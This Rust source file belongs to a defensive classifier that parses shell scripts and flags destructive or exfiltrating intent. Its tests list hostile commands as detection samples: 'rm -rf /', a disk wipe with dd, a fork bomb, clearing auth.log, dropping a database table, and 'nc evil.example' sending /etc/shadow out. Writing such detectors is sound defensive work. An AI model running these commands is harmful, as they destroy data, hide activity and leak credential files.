//! Shell scripts parsed with brush-parser and walked like a shell would run them:
//! lists, pipelines (stdin text and taint flow left to right), subshells, brace groups,
//! functions, loops, redirections, here-docs and here-strings, `cd`, assignments.

use brush_parser::ast::{
    Command, CommandPrefixOrSuffixItem, CompoundCommand, CompoundList, IoFileRedirectKind,
    IoFileRedirectTarget, IoRedirect, Pipeline, Program, SimpleCommand, SubshellCommand,
};
use brush_parser::{Parser, ParserOptions};

use crate::engine::{Engine, MAX_NESTING, MAX_PARSE_BYTES, ShellState, Stdin, Stdout};
use crate::intent::IntentClass;
use crate::tools::{audit, redirect};
use crate::words::expand;

/// Classifies `script` as if run by `sh -c`. Oversized, too deeply nested or unparseable
/// scripts go to the linear fallback scanner.
pub(crate) fn run_script(eng: &mut Engine<'_>, script: &str, st: &mut ShellState) {
    if !eng.charge(1 + script.len() / 64) {
        return;
    }
    if script.len() > MAX_PARSE_BYTES || !parser_safe(script) {
        eng.verdict.degraded = true;
        crate::fallback::scan(eng, script, st);
        return;
    }
    let opts = ParserOptions::default();
    // Defence in depth: a parser panic on hostile input must not take the caller down
    // (the pre-checks above route the known ones to the fallback scanner).
    // brush-parser also panics inside word parsing (`~-<huge>`), which runs while the
    // program is evaluated, so the guard covers both parsing and evaluation.
    let outcome = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
        if let Some(plain) = crate::quick::parse(script).filter(|_| fast_path_on()) {
            plain.run(eng, st);
            return true;
        }
        match Parser::new(std::io::BufReader::new(script.as_bytes()), &opts).parse_program() {
            Ok(prog) => {
                run_program(eng, &prog, st);
                true
            }
            Err(_) => false,
        }
    }));
    match outcome {
        Ok(true) => {}
        Ok(false) => crate::fallback::scan(eng, script, st),
        Err(_) => {
            eng.verdict.degraded = true;
            crate::fallback::scan(eng, script, st);
        }
    }
}

#[cfg(test)]
thread_local! {
    /// Tests turn the fast path off to compare its verdicts with brush-parser's.
    pub(crate) static NO_FAST_PATH: std::cell::Cell<bool> = const { std::cell::Cell::new(false) };
}

fn fast_path_on() -> bool {
    #[cfg(test)]
    if NO_FAST_PATH.with(std::cell::Cell::get) {
        return false;
    }
    true
}

/// Whether brush-parser may be given the script: not nested too deeply, no dangling
/// here-document, no huge fd number. Scripts without `<`, `>` or brackets (most) are
/// cleared in one pass.
fn parser_safe(s: &str) -> bool {
    if !s.bytes().any(|b| matches!(b, b'<' | b'>' | b'(' | b'{' | b'[' | b'`')) {
        return true;
    }
    nesting(s) <= MAX_NESTING && !(s.contains("<<") && dangling_heredoc(s)) && !huge_io_number(s)
}

/// A `<<` (or `<<-`) with no delimiter word after it: a syntax error in every POSIX
/// shell, and input on which brush-parser 0.4 allocates without bound (found by the
/// `batch` fuzz target: `3<<\r<<\t`). Such scripts go to the fallback scanner.
fn dangling_heredoc(s: &str) -> bool {
    let b = s.as_bytes();
    let mut i = 0;
    while i + 1 < b.len() {
        if b[i] == b'<' && b[i + 1] == b'<' {
            if b.get(i + 2) == Some(&b'<') {
                i += 3; // here-string
                continue;
            }
            let mut j = i + 2;
            if b.get(j) == Some(&b'-') {
                j += 1;
            }
            while matches!(b.get(j), Some(b' ' | b'\t')) {
                j += 1;
            }
            if matches!(b.get(j), None | Some(b'\n' | b'<' | b'>' | b'|' | b'&' | b';' | b'(' | b')')) {
                return true;
            }
            i = j;
        } else {
            i += 1;
        }
    }
    false
}

/// A file-descriptor number of 10 or more digits right before a redirection
/// (`9966666666>x`): brush-parser 0.4 unwraps its conversion to an integer and panics
/// (found by the `batch` fuzz target).
fn huge_io_number(s: &str) -> bool {
    let mut digits = 0usize;
    for b in s.bytes() {
        if b.is_ascii_digit() {
            digits += 1;
        } else {
            if digits >= 10 && (b == b'<' || b == b'>') {
                return true;
            }
            digits = 0;
        }
    }
    false
}

/// Deepest nesting of brackets, quotes-insensitive (an over-estimate is fine).
fn nesting(s: &str) -> usize {
    let (mut depth, mut max) = (0usize, 0usize);
    let mut backticks = 0usize;
    for b in s.bytes() {
        match b {
            b'(' | b'{' | b'[' => {
                depth += 1;
                max = max.max(depth);
            }
            b')' | b'}' | b']' => depth = depth.saturating_sub(1),
            b'`' => backticks += 1,
            _ => {}
        }
    }
    max.max(backticks / 2)
}

fn run_program(eng: &mut Engine<'_>, prog: &Program, st: &mut ShellState) {
    for cc in &prog.complete_commands {
        run_list(eng, cc, st, &Stdin::default());
    }
}

fn run_list(eng: &mut Engine<'_>, list: &CompoundList, st: &mut ShellState, stdin: &Stdin) -> Stdout {
    let mut out = Stdout::default();
    for item in &list.0 {
        let o = run_pipeline(eng, &item.0.first, st, stdin);
        merge(&mut out, o);
        for ao in &item.0.additional {
            let (brush_parser::ast::AndOr::And(p) | brush_parser::ast::AndOr::Or(p)) = ao;
            let o = run_pipeline(eng, p, st, stdin);
            merge(&mut out, o);
        }
    }
    out
}

fn merge(acc: &mut Stdout, o: Stdout) {
    if o.sensitive.is_some() {
        acc.sensitive = o.sensitive;
    }
    match (&mut acc.text, o.text) {
        (Some(a), Some(b)) => {
            a.push('\n');
            a.push_str(&b);
        }
        (a @ None, b) => *a = b,
        _ => {}
    }
}

fn run_pipeline(eng: &mut Engine<'_>, p: &Pipeline, st: &mut ShellState, stdin: &Stdin) -> Stdout {
    run_stages(eng, &p.seq, &(), st, stdin)
}

/// A pipeline stage: a command of brush-parser's tree, or one of the fast path's
/// ([`crate::quick`]), read from `src`.
pub(crate) trait Stage {
    type Src: ?Sized;
    /// Runs the command.
    fn run(&self, src: &Self::Src, eng: &mut Engine<'_>, st: &mut ShellState, stdin: &Stdin) -> Stdout;
    /// The argv a next stage sees as the producer of its input.
    fn producer(&self, src: &Self::Src) -> Option<Vec<String>>;
}

impl Stage for Command {
    type Src = ();

    fn run(&self, (): &(), eng: &mut Engine<'_>, st: &mut ShellState, stdin: &Stdin) -> Stdout {
        run_command(eng, self, st, stdin)
    }

    fn producer(&self, (): &()) -> Option<Vec<String>> {
        let Command::Simple(sc) = self else { return None };
        let mut v = Vec::new();
        if let Some(w) = &sc.word_or_name {
            v.push(crate::words::strip_quotes(&w.value));
        }
        for item in sc.suffix.iter().flat_map(|s| s.0.iter()) {
            if let CommandPrefixOrSuffixItem::Word(w) = item {
                v.push(crate::words::strip_quotes(&w.value));
            }
        }
        Some(v)
    }
}

/// Runs a pipeline: each stage in its own subshell (except a lone command), the literal
/// text and the taint of each stage's output flowing into the next.
pub(crate) fn run_stages<S: Stage>(eng: &mut Engine<'_>, seq: &[S], src: &S::Src, st: &mut ShellState, stdin: &Stdin) -> Stdout {
    let mut input = stdin.clone();
    let mut last = Stdout::default();
    let piped = seq.len() > 1;
    for (i, cmd) in seq.iter().enumerate() {
        let mut sub;
        let state = if piped {
            sub = st.clone();
            &mut sub
        } else {
            &mut *st
        };
        last = cmd.run(src, eng, state, &input);
        if i + 1 < seq.len() {
            input = Stdin { text: last.text.take(), sensitive: last.sensitive.take(), producer: cmd.producer(src) };
        }
    }
    last
}

fn run_command(eng: &mut Engine<'_>, cmd: &Command, st: &mut ShellState, stdin: &Stdin) -> Stdout {
    if !eng.charge(1) {
        return Stdout::default();
    }
    match cmd {
        Command::Simple(sc) => run_simple(eng, sc, st, stdin),
        Command::Compound(cc, redirs) => {
            let mut input = stdin.clone();
            let mut targets = Vec::new();
            for r in redirs.iter().flat_map(|r| r.0.iter()) {
                apply_redirect(eng, r, st, &mut input, &mut targets);
            }
            let out = run_compound(eng, cc, st, &input);
            for (kind, path) in targets {
                redirect::on_write(eng, &kind, &path, &out, "compound command");
            }
            out
        }
        Command::Function(f) => {
            let name = f.fname.value.clone();
            let body = &f.body.0;
            if fork_bomb(&name, body) {
                eng.flag(IntentClass::ServiceDisruption, "fork bomb: a function that pipes itself into itself in the background", format!("{name}(){{ ... }}"));
            }
            // A function body is judged where it is defined: calling it runs the same code.
            let mut inner = st.clone();
            run_compound(eng, body, &mut inner, &Stdin::default());
            Stdout::default()
        }
        Command::ExtendedTest(..) => Stdout::default(),
    }
}

fn run_compound(eng: &mut Engine<'_>, cc: &CompoundCommand, st: &mut ShellState, stdin: &Stdin) -> Stdout {
    match cc {
        CompoundCommand::BraceGroup(b) => run_list(eng, &b.list, st, stdin),
        CompoundCommand::Subshell(s) => run_list(eng, &s.list, &mut st.clone(), stdin),
        CompoundCommand::ForClause(f) => {
            // `for d in /etc /usr; do rm -rf $d; done`: run the body once per literal value.
            let values: Vec<String> = f
                .values
                .iter()
                .flatten()
                .take(16)
                .map(|w| expand(eng, &w.value, st))
                .collect();
            let mut out = Stdout::default();
            if values.is_empty() {
                return run_list(eng, &f.body.list, st, stdin);
            }
            for v in values {
                let mut inner = st.clone();
                inner.vars.insert(f.variable_name.clone(), v);
                merge(&mut out, run_list(eng, &f.body.list, &mut inner, stdin));
            }
            out
        }
        CompoundCommand::ArithmeticForClause(f) => run_list(eng, &f.body.list, st, stdin),
        CompoundCommand::CaseClause(c) => {
            let mut out = Stdout::default();
            for item in &c.cases {
                if let Some(l) = &item.cmd {
                    merge(&mut out, run_list(eng, l, &mut st.clone(), stdin));
                }
            }
            out
        }
        CompoundCommand::IfClause(i) => {
            let mut out = run_list(eng, &i.condition, st, stdin);
            merge(&mut out, run_list(eng, &i.then, st, stdin));
            for e in i.elses.iter().flatten() {
                if let Some(c) = &e.condition {
                    merge(&mut out, run_list(eng, c, st, stdin));
                }
                merge(&mut out, run_list(eng, &e.body, st, stdin));
            }
            out
        }
        CompoundCommand::WhileClause(w) | CompoundCommand::UntilClause(w) => {
            let mut out = run_list(eng, &w.0, st, stdin);
            merge(&mut out, run_list(eng, &w.1.list, st, stdin));
            out
        }
        CompoundCommand::Coprocess(c) => run_command(eng, &c.body, st, stdin),
        CompoundCommand::Arithmetic(_) => Stdout::default(),
    }
}

/// `:(){ :|:& };:` and friends: the body runs the function itself more than once at a time.
fn fork_bomb(name: &str, body: &CompoundCommand) -> bool {
    let CompoundCommand::BraceGroup(b) = body else { return false };
    b.list.0.iter().any(|item| {
        let p = &item.0.first;
        let calls = p
            .seq
            .iter()
            .filter(|c| matches!(c, Command::Simple(sc) if sc.word_or_name.as_ref().is_some_and(|w| w.value == name)))
            .count();
        calls >= 2 || (calls == 1 && matches!(item.1, brush_parser::ast::SeparatorOperator::Async))
    })
}

type Target = (IoFileRedirectKind, String);

fn apply_redirect(eng: &mut Engine<'_>, r: &IoRedirect, st: &mut ShellState, input: &mut Stdin, targets: &mut Vec<Target>) {
    match r {
        IoRedirect::File(_, kind, IoFileRedirectTarget::Filename(w)) => {
            let word = expand(eng, &w.value, st);
            let p = st.resolve(&word);
            match kind {
                IoFileRedirectKind::Read => {
                    if eng.ctx.is_sensitive(&p) {
                        input.sensitive = Some(format!("< {p}"));
                    }
                    input.text = None;
                }
                k => targets.push((k.clone(), p)),
            }
        }
        IoRedirect::File(_, _, IoFileRedirectTarget::ProcessSubstitution(_, sub)) => {
            run_list(eng, &sub.list, &mut st.clone(), &Stdin::default());
        }
        IoRedirect::File(..) => {}
        IoRedirect::HereDocument(_, doc) => {
            input.text = Some(if doc.requires_expansion { expand_heredoc(eng, &doc.doc.value, st) } else { doc.doc.value.clone() });
        }
        IoRedirect::HereString(_, w) => input.text = Some(expand(eng, &w.value, st)),
        IoRedirect::OutputAndError(w, append) => {
            let word = expand(eng, &w.value, st);
            let p = st.resolve(&word);
            let kind = if *append { IoFileRedirectKind::Append } else { IoFileRedirectKind::Write };
            targets.push((kind, p));
        }
    }
}

fn expand_heredoc(eng: &mut Engine<'_>, body: &str, st: &mut ShellState) -> String {
    if !body.contains(['$', '`']) {
        return body.to_owned();
    }
    let mut out = String::new();
    for line in body.lines().take(4096) {
        let quoted = format!("\"{}\"", line.replace('"', "\\\""));
        out.push_str(&expand(eng, &quoted, st));
        out.push('\n');
    }
    out
}

fn run_simple(eng: &mut Engine<'_>, sc: &SimpleCommand, st: &mut ShellState, stdin: &Stdin) -> Stdout {
    let prefix = sc.prefix.iter().flat_map(|p| p.0.iter()).map(|item| match item {
        CommandPrefixOrSuffixItem::AssignmentWord(_, w) => Part::Assign(&w.value),
        CommandPrefixOrSuffixItem::IoRedirect(r) => Part::Redirect(r),
        CommandPrefixOrSuffixItem::Word(w) => Part::Word(&w.value),
        CommandPrefixOrSuffixItem::ProcessSubstitution(_, sub) => Part::ProcessSubstitution(sub, false),
    });
    let name = sc.word_or_name.iter().map(|w| Part::Word(&w.value));
    let suffix = sc.suffix.iter().flat_map(|s| s.0.iter()).map(|item| match item {
        CommandPrefixOrSuffixItem::Word(w) => Part::Arg(&w.value),
        CommandPrefixOrSuffixItem::AssignmentWord(_, w) => Part::Word(&w.value),
        CommandPrefixOrSuffixItem::IoRedirect(r) => Part::Redirect(r),
        CommandPrefixOrSuffixItem::ProcessSubstitution(_, sub) => Part::ProcessSubstitution(sub, true),
    });
    let words = 1 + sc.suffix.as_ref().map_or(0, |s| s.0.len());
    run_parts(eng, prefix.chain(name).chain(suffix), words, st, stdin)
}

/// One part of a simple command, in source order.
pub(crate) enum Part<'p> {
    /// `NAME=value` before the command name.
    Assign(&'p str),
    /// A word expanded as one word: the command name, a word before it, an
    /// assignment-shaped word after it.
    Word(&'p str),
    /// An argument: brace expansion may make several words of it.
    Arg(&'p str),
    Redirect(&'p IoRedirect),
    /// `<(...)` or `>(...)`; in argument position the command gets a path for it.
    ProcessSubstitution(&'p SubshellCommand, bool),
}

/// Runs one simple command given as its parts (`words`: how many argv words to expect).
pub(crate) fn run_parts<'p>(eng: &mut Engine<'_>, parts: impl Iterator<Item = Part<'p>>, words: usize, st: &mut ShellState, stdin: &Stdin) -> Stdout {
    let mut input = stdin.clone();
    let mut targets = Vec::new();
    let mut assigns: Vec<(String, String)> = Vec::new();
    let mut argv: Vec<String> = Vec::with_capacity(words);
    for part in parts {
        match part {
            Part::Assign(w) => {
                let text = expand(eng, w, st);
                if let Some((n, v)) = text.split_once('=') {
                    assigns.push((n.to_owned(), v.to_owned()));
                }
            }
            Part::Word(w) => argv.push(expand(eng, w, st)),
            Part::Arg(w) => crate::words::expand_words(eng, w, st, &mut argv),
            Part::Redirect(r) => apply_redirect(eng, r, st, &mut input, &mut targets),
            Part::ProcessSubstitution(sub, as_arg) => {
                run_list(eng, &sub.list, &mut st.clone(), &Stdin::default());
                if as_arg {
                    argv.push("/dev/fd/63".to_owned());
                }
            }
        }
    }
    for (n, v) in &assigns {
        audit::on_assignment(eng, n, v);
    }
    let out = if argv.is_empty() {
        for (n, v) in assigns {
            st.vars.insert(n, v);
        }
        Stdout::default()
    } else if argv[0] == "cd" || argv[0] == "pushd" {
        change_dir(st, argv.get(1).map(String::as_str));
        Stdout::default()
    } else if matches!(argv[0].as_str(), "export" | "declare" | "typeset" | "local" | "readonly") {
        for a in &argv[1..] {
            if let Some((n, v)) = a.split_once('=') {
                audit::on_assignment(eng, n, v);
                st.vars.insert(n.to_owned(), v.to_owned());
            }
        }
        Stdout::default()
    } else {
        eng.run_argv(&argv, st, &input)
    };
    if !targets.is_empty() {
        let what = crate::engine::evidence_of(&argv);
        for (kind, path) in targets {
            redirect::on_write(eng, &kind, &path, &out, &what);
        }
    }
    out
}

fn change_dir(st: &mut ShellState, arg: Option<&str>) {
    st.cwd = match arg {
        None | Some("~") => Some("~".to_owned()),
        Some("-") => None,
        Some(a) if a.starts_with('-') => None,
        Some(a) => {
            let p = crate::path::normalize(a, st.cwd.as_deref());
            crate::path::is_anchored(&p).then_some(p)
        }
    };
}

#[cfg(test)]
mod tests {
    #[test]
    fn dangling_heredoc_does_not_reach_the_parser() {
        // Regression: fuzz/artifacts/batch oom input; brush-parser ran out of memory on it.
        assert!(super::dangling_heredoc("3<<\r<<\t"));
        assert!(super::dangling_heredoc("cat <<"));
        assert!(!super::dangling_heredoc("cat <<EOF\nx\nEOF"));
        assert!(!super::dangling_heredoc("cat <<< word"));
        assert!(!super::dangling_heredoc("cat <<- 'END'\nx\nEND"));
        let v = classify_shell("3<<\r<<\t", &Context::builtin());
        assert!(v.degraded);
    }

    #[test]
    fn huge_fd_numbers_do_not_reach_the_parser() {
        // Regression: the `batch` fuzz target's panic input.
        assert!(super::huge_io_number("9966666666>9"));
        assert!(!super::huge_io_number("echo 2>/dev/null 12345678901 x"));
        let v = classify_shell("9966666666>9", &Context::builtin());
        assert!(v.degraded);
    }

    #[test]
    fn a_parser_panic_during_evaluation_degrades_instead_of_crashing() {
        // Regression: the `batch` fuzz target's input; brush-parser's word parser
        // panics on a huge directory-stack index.
        let v = classify_shell("~-5555555555555555555555533", &Context::builtin());
        assert!(v.degraded);
        let v = classify_shell("~-5555555555555555555555533; rm -rf /", &Context::builtin());
        assert!(v.has(IntentClass::BulkDelete), "the fallback scan still sees the rest");
    }

    use crate::{Context, IntentClass, classify_shell};

    fn classes(s: &str) -> Vec<IntentClass> {
        classify_shell(s, &Context::builtin()).classes()
    }

    #[test]
    fn lists_pipelines_and_groups() {
        assert_eq!(classes("true && { echo hi; rm -rf / ; }"), [IntentClass::BulkDelete]);
        assert_eq!(classes("(cd / && rm -rf *)"), [IntentClass::BulkDelete]);
        assert!(classes("cd /tmp/build && rm -rf *").is_empty());
        assert_eq!(classes("for d in /etc /usr; do rm -rf $d; done"), [IntentClass::BulkDelete]);
    }

    #[test]
    fn data_is_not_a_command() {
        assert!(classes("echo 'rm -rf /'").is_empty());
        assert!(classes("grep -r 'DROP TABLE' migrations/").is_empty());
        assert!(classes("printf '%s\\n' 'mkfs.ext4 /dev/sda'").is_empty());
    }

    #[test]
    fn substitutions_heredocs_and_functions() {
        assert_eq!(classes("x=$(rm -rf /etc)"), [IntentClass::BulkDelete]);
        assert_eq!(classes("psql <<EOF\nDROP TABLE users;\nEOF"), [IntentClass::SchemaDestroy]);
        assert_eq!(classes("wipe() { dd if=/dev/zero of=/dev/sda; }; wipe"), [IntentClass::DiskWipe]);
        assert_eq!(classes(":(){ :|:& };:"), [IntentClass::ServiceDisruption]);
    }

    #[test]
    fn redirections() {
        assert_eq!(classes("cat image.iso > /dev/sda"), [IntentClass::DiskWipe]);
        assert_eq!(classes(": > /var/log/auth.log"), [IntentClass::AuditTamper]);
        assert!(classes("echo started >> /var/log/myapp.log").is_empty());
        assert_eq!(classes("nc evil.example 9 < /etc/shadow"), [IntentClass::DataExfiltration]);
    }
}
